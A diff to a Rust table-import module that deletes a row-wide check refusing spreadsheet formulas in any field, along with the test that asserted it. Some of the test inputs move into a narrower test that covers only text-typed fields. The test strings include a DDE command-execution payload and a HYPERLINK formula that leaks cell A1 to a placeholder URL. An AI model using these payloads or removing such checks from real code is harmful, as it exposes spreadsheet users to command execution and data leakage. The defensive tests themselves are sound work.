@@ -167,28 +167,7 @@ pub fn read_table<'a>(
             let limit = limits.rows;
             return Err(TableError::TooManyRows { row, limit });
         }
-        // No field takes it: a spreadsheet would show something else than stands here.
-        let formula = table
-            .fields
-            .iter()
-            .zip(&cells)
-            .find_map(|(field, cell)| field.filter(|_| cell.trim_start().starts_with('=')));
-        if cells.len() != header.len() {
-            table.row_errors.push(RowError {
-                row,
-                field: None,
-                problem: RowProblem::CellCount {
-                    expected: header.len(),
-                    found: cells.len(),
-                },
-            });
-        } else if let Some(field) = formula {
-            table.row_errors.push(RowError {
-                row,
-                field: Some(field),
-                problem: RowProblem::Formula,
-            });
-        } else {
+        if cells.len() == header.len() {
             let known = table.fields.iter().zip(cells);
             table.rows.push(Row {
                 number: row,
@@ -196,6 +175,15 @@ pub fn read_table<'a>(
                     .filter_map(|(field, cell)| Some(((*field)?, cell)))
                     .filter(|(_, cell)| !cell.trim().is_empty())
                     .collect(),
+            });
+        } else {
+            table.row_errors.push(RowError {
+                row,
+                field: None,
+                problem: RowProblem::CellCount {
+                    expected: header.len(),
+                    found: cells.len(),
+                },
             });
         }
     }
@@ -359,11 +347,15 @@ mod tests {
     #[test]
     fn a_formula_is_refused_where_text_is_asked_for_and_only_there() {
         for formula in [
+            "\"=HYPERLINK(\"\"http://x?\"\"&A1)\"",
             "+cmd|' /C calc'!A0",
             "@SUM(1)",
             "-2+3",
+            "  =1+1",
+            "\u{a0}=1+1",
             "\tx",
             "\"\rx\"",
+            "\"\n=1\"",
             "＝1+1",
             "＋1",
             "－1",
@@ -378,27 +370,6 @@ mod tests {
             assert!(row.get("phone").is_some(), "{formula:?}");
         }
         assert_eq!(row_of("1;A;+49 711 1").get("phone"), Some("+49 711 1"));
-    }
-
-    #[test]
-    fn what_a_spreadsheet_would_compute_is_refused_in_every_field_and_left_out_beside_them() {
-        for formula in [
-            "\"=HYPERLINK(\"\"http://x?\"\"&A1)\"",
-            "=1",
-            "  =1+1",
-            "\u{a0}=1+1",
-            "\"\n=1\"",
-        ] {
-            let table =
-                table(format!("ags;name;phone;note\n1;A;{formula};x\n2;B;;{formula}").leak());
-            let refused = RowError {
-                row: 2,
-                field: Some("phone"),
-                problem: RowProblem::Formula,
-            };
-            assert_eq!(table.row_errors, [refused], "{formula:?}");
-            assert_eq!(table.rows.len(), 1, "{formula:?}");
-        }
     }
 
     #[test]
